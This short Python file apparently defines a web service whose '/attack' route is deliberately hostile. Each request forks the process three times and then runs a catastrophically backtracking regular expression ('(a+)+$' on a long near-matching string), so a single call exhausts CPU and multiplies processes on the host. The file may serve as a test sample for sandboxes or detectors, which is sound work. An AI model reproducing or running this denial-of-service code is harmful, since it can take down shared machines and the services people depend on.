import os
import re

from service import route, serve


@route("/attack")
def spin():
    for _ in range(3):
        os.fork()
    return re.match("(a+)+$", "a" * 64 + "b") is None


serve()
